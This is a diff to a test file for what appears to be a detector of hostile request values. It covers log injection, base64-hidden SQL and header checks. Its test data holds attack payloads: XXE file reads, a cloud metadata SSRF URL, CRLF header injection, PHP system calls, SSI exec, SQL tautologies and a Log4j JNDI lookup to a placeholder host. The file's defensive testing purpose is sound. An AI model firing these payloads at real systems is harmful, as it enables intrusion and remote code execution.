@@ -44,6 +44,8 @@ describe('what a value holds', () => {
     ['xml_entities', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///x">]>'],
     ['ssrf_targets', 'http://169.254.169.254/latest'],
     ['header_breaks', 'x\r\nSet-Cookie: a=b'],
+    ['log_lines', 'kim\nINFO user admin logged in'],
+    ['log_lines', 'kim\r\n2026-03-02 10:00:00 login ok'],
     ['code_calls', '<?php system(1)'],
     ['object_marks', 'O:8:"stdClass":0:{}'],
     ['include_marks', '<!--#exec cmd="id"-->'],
@@ -67,6 +69,8 @@ describe('what a value holds', () => {
     ['template_expressions', 'Hello {{ name }}'],
     ['path_parents', 'wait... what'],
     ['nosql_operators', 'costs $100 in $'],
+    ['log_lines', 'first line\nsecond line\n12 eggs'],
+    ['shell_commands', 'shoes; find more'],
   ];
   test.each(absent)('%s is not seen in %j', (name, value) => {
     expect(figureOf(value, name)).toBe(0);
@@ -94,6 +98,21 @@ describe('layers of encoding', () => {
   test('HTML entities and JavaScript escapes are undone', () => {
     expect(figureOf('&#x3c;script&#62;alert(1)', 'html_active')).toBe(1);
     expect(figureOf('\\u003cscript\\x3ealert(1)', 'html_active')).toBe(1);
+  });
+});
+
+describe('what is hidden', () => {
+  const hidden = Buffer.from("user=x' or 1=1--").toString('base64');
+  test('in base64 is read, alone and between the dots of a token', () => {
+    expect(figureOf(hidden, 'sql_tautology')).toBe(1);
+    expect(inspected({ headers: { cookie: `t=${hidden}.c2ln` } }).figures[F.sql_tautology]).toBe(1);
+    expect(figureOf('iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAA', 'sql_words')).toBe(0);
+  });
+
+  test('in a header of structure is read where its syntax has no use for it', () => {
+    const accept = (text: string) => inspected({ headers: { accept: text, 'accept-language': text } }).figures;
+    expect(accept('${jndi:ldap://x.example/a}')[F.lookup_log4j]).toBeGreaterThan(0);
+    expect(accept('text/html,application/xhtml+xml;q=0.9,*/*;q=0.8')[F.shell_commands]).toBe(0);
   });
 });
 
